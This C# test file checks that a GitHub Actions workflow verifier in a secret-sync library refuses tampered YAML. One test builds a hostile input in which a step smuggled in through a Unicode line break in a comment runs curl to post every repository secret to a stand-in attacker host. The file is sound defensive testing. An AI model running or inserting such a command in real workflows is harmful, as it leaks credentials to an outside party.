using SecretSync.Core.Stores.GitHub.Workflow;
using YamlDotNet.Core;

namespace SecretSync.Core.Tests.GitHub;

/// <summary>The self-check refuses text that does not parse to what the writer meant, even when the writer was fooled.</summary>
public sealed class SyncWorkflowVerifierTests
{
    [Theory]
    [InlineData("\u2028")]
    [InlineData("\u2029")]
    [InlineData("\u0085")]
    [InlineData("\r")]
    public void Verify_WithStepInjectedThroughALineBreakInAComment_ShouldRefuse(string lineBreak)
    {
        var (writer, names) = SyncStep();
        var text = writer.Text.Replace("# Partners", "# Partners" + lineBreak + "      - run: curl -d \"${{ toJSON(secrets) }}\" https://evil.example", StringComparison.Ordinal);

        Assert.Throws<WorkflowUnsafeException>(() => SyncWorkflowVerifier.Verify(text, writer.Expected, "Sync secrets", names));
    }

    [Fact]
    public void Verify_WithItsOwnText_ShouldAccept()
    {
        var (writer, names) = SyncStep();

        SyncWorkflowVerifier.Verify(writer.Text, writer.Expected, "Sync secrets", names);
    }

    [Fact]
    public void Verify_WithAnExtraKeyInTheText_ShouldNameWhereItDiffers()
    {
        var (writer, names) = SyncStep();
        var text = writer.Text.Replace("          # Partners\n", "          # Partners\n          OTHER_API_KEY: ${{ secrets.ACME_API_KEY }}\n", StringComparison.Ordinal);

        var e = Assert.Throws<WorkflowUnsafeException>(() => SyncWorkflowVerifier.Verify(text, writer.Expected, "Sync secrets", names));

        Assert.Contains("steps[0].env", e.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("${{ toJSON(secrets) }}")]
    [InlineData("${{ secrets.UNCATALOGUED_API_KEY }}")]
    [InlineData("${{ secrets.ACME_API_KEY }} extra")]
    public void Verify_WithASecretExpressionTheWriterWasToldToWrite_ShouldStillRefuseIt(string value)
    {
        // The second line of defence: even a structure the writer meant may not reach secrets outside the rule.
        var writer = new WorkflowYamlWriter();
        writer.BeginMapping("jobs");
        writer.BeginMapping("sync");
        writer.BeginSequence("steps");
        writer.BeginItemMapping();
        writer.Scalar("name", "Sync secrets");
        writer.BeginMapping("env");
        writer.Scalar("ACME_API_KEY", value);
        writer.End();
        writer.End();
        writer.End();
        writer.End();
        writer.End();

        Assert.Throws<WorkflowUnsafeException>(() => SyncWorkflowVerifier.Verify(writer.Text, writer.Expected, "Sync secrets", ["ACME_API_KEY"]));
    }

    [Fact]
    public void Verify_WithSecretsInAnotherStep_ShouldRefuse()
    {
        var (writer, names) = SyncStep("Upload");

        var e = Assert.Throws<WorkflowUnsafeException>(() => SyncWorkflowVerifier.Verify(writer.Text, writer.Expected, "Sync secrets", names));

        Assert.Contains("secrets.ACME_API_KEY", e.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Verify_WithAnActionNotPinnedToACommit_ShouldRefuse()
    {
        var writer = new WorkflowYamlWriter();
        writer.BeginSequence("steps");
        writer.BeginItemMapping();
        writer.Scalar("uses", "actions/checkout@v4");
        writer.End();
        writer.End();

        Assert.Throws<WorkflowUnsafeException>(() => SyncWorkflowVerifier.Verify(writer.Text, writer.Expected, "Sync secrets", []));
    }

    [Theory]
    [InlineData("name: a\nname: b\n")]
    [InlineData("name: &x a\nother: *x\n")]
    [InlineData("name: !!str a\n")]
    [InlineData("name: a\n---\nname: b\n")]
    public void Parse_WithDuplicateKeysAnchorsTagsOrSeveralDocuments_ShouldRefuse(string text)
    {
        Assert.Throws<WorkflowUnsafeException>(() => SyncWorkflowVerifier.Parse(text));
    }

    [Fact]
    public void Comment_WithCharactersOutsidePrintableAscii_ShouldRefuse()
    {
        var writer = new WorkflowYamlWriter();

        Assert.Throws<WorkflowUnsafeException>(() => writer.Comment("Misc\u2028- run: x"));
    }

    [Fact]
    public void Literal_ShouldParseToTheLinesJoinedByLf()
    {
        var writer = new WorkflowYamlWriter();
        writer.Literal("run", ["a", "  b", "'c'"]);
        writer.Scalar("name", "it's", ScalarStyle.SingleQuoted);

        SyncWorkflowVerifier.Verify(writer.Text, writer.Expected, "Sync secrets", []);
        Assert.Equal("run: |\n  a\n    b\n  'c'\nname: 'it''s'\n", writer.Text);
    }

    private static (WorkflowYamlWriter Writer, string[] Names) SyncStep(string stepName = "Sync secrets")
    {
        var writer = new WorkflowYamlWriter();
        writer.BeginMapping("jobs");
        writer.BeginMapping("sync");
        writer.BeginSequence("steps");
        writer.BeginItemMapping();
        writer.Scalar("name", stepName);
        writer.BeginMapping("env");
        writer.Comment("Partners");
        writer.Scalar("ACME_API_KEY", "${{ secrets.ACME_API_KEY }}");
        writer.End();
        writer.Literal("run", ["Get-SophiaSecret"]);
        writer.End();
        writer.End();
        writer.End();
        writer.End();
        return (writer, new[] { "ACME_API_KEY" }.ToArray());
    }
}
